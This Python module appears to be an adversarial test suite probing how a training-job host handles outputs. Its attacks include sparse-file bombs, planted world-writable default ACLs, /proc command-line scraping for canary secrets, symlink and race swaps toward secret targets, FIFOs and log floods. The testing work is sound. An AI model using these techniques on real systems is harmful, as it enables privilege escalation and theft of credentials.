"""Attacks on what came later: logins, access control lists, files of holes, the fetch and the logs."""

from __future__ import annotations

import os
import struct
import time
from contextlib import suppress
from pathlib import Path

from host import (
    CODE,
    HOST,
    LONG,
    MODEL,
    OWN,
    RAN,
    RESULTS,
    ROOT,
    SCRIPTS,
    STATE,
    TRAIN,
    acted,
    attack,
    control,
    go_on,
    link,
    newest,
    race,
    swap,
    target,
    text,
)

HOLES = 1 << 40  # bytes, of which none is on the disk
FLOOD = 48 << 20  # bytes of a log
# acl(5): what is made in a folder with such a default list may be written by the account, and by all.
OPEN = struct.pack("<I", 2) + b"".join(
    struct.pack("<HHI", tag, 7, who)
    for tag, who in ((1, 2**32 - 1), (2, os.getuid()), (4, 2**32 - 1), (16, 2**32 - 1), (32, 2**32 - 1))
)


def holes(path: Path) -> None:
    path.write_bytes(b"{")
    os.truncate(path, HOLES)


@attack("look")
def files_are_of_holes(name: str) -> None:
    for path in (SCRIPTS / "helper.sh", MODEL / "generation_config.json", TRAIN / "0.parquet", RESULTS / "losses.csv"):
        swap(path, holes)
    for path in (STATE / "conda_env/pip.json", OWN / "tries.json"):
        with suppress(PermissionError):
            swap(path, holes)


@attack("write")
def lists_open_what_root_writes(name: str) -> None:
    """They stay: all that root does from now on, it does under them."""
    with suppress(OSError):
        for folder in (ROOT, SCRIPTS, CODE, CODE / "data", CODE / "data/configs", RESULTS, MODEL, TRAIN, OWN):
            os.setxattr(folder, "system.posix_acl_default", OPEN)
    for folder in (STATE, STATE / "training", STATE / "work", STATE / "adopted"):
        with suppress(OSError):
            os.setxattr(folder, "system.posix_acl_default", OPEN)
            acted(name, str(folder))


@attack("again")
def lists_opened_something_of_root(name: str) -> None:
    """Whatever root made where the account had its lists: a file of root's that the account can write to."""
    found = []
    for top in (ROOT, STATE, HOST / "run/canvas-fleet", HOST / "run/canvas-work", HOST / "etc/systemd"):
        for place, below, names in os.walk(top):
            for one in (*below, *names):
                path = os.path.join(place, one)
                with suppress(OSError):
                    if not os.path.islink(path) and os.lstat(path).st_uid == 0 and os.access(path, os.W_OK):
                        found.append(path)
    if found:
        acted(name, "\n".join(found[:20]))


@attack("again")
def logins_were_left(name: str) -> None:
    """What a work was given in /run is gone with it."""
    left = [str(path) for path in (HOST / "run/canvas-work").glob("*/*")]
    if left:
        acted(name, "\n".join(left))


@attack("fetch")
def logins_are_in_arguments(name: str) -> None:
    """The account reads what all programs are called with, as anybody may, and keeps it. The play is told this secret
    as the hub's token and as a login; see vars/fleet.yml."""
    wanted, here = f"canary-{name}-of-root".encode(), str(os.getpid())

    def look() -> None:
        for entry in os.listdir(HOST / "proc"):
            if entry.isdigit() and entry != here:
                with suppress(OSError):
                    said = (HOST / "proc" / entry / "cmdline").read_bytes()
                    if wanted in said:
                        (RAN / f"{name}.seen").write_bytes(said)
        time.sleep(0.01)

    go_on(look, seconds=LONG)


@attack("bring")
def losses_to_fetch_are_endless(name: str) -> None:
    link(RESULTS / "losses.csv", Path("/dev/zero"))


@attack("bring")
def log_to_fetch_is_a_pipe(name: str) -> None:
    swap(RESULTS / "log.plain.txt", os.mkfifo)


@attack("bring")
def log_to_fetch_changes_places(name: str) -> None:
    """Root announces the log; what comes is to be a secret."""
    race(name, RESULTS / "log.txt", target(name))


@attack("holes")
def saved_file_is_a_secret(name: str) -> None:
    link(newest() / "model.safetensors", target(name))


@attack("holes")
def saved_file_is_of_holes(name: str) -> None:
    swap(newest() / "ema.safetensors", holes)


@attack("follow")
def followed_log_is_a_flood(name: str) -> None:
    line = control(name).encode("utf-8", "surrogateescape")
    text(RESULTS / "log.txt", line * 1000 + b"\n" + b"x" * FLOOD + b"\n" + (line + b"\n") * 2000)


@attack("follow")
def followed_log_changes_places(name: str) -> None:
    race(name, RESULTS / "log.txt", target(name))
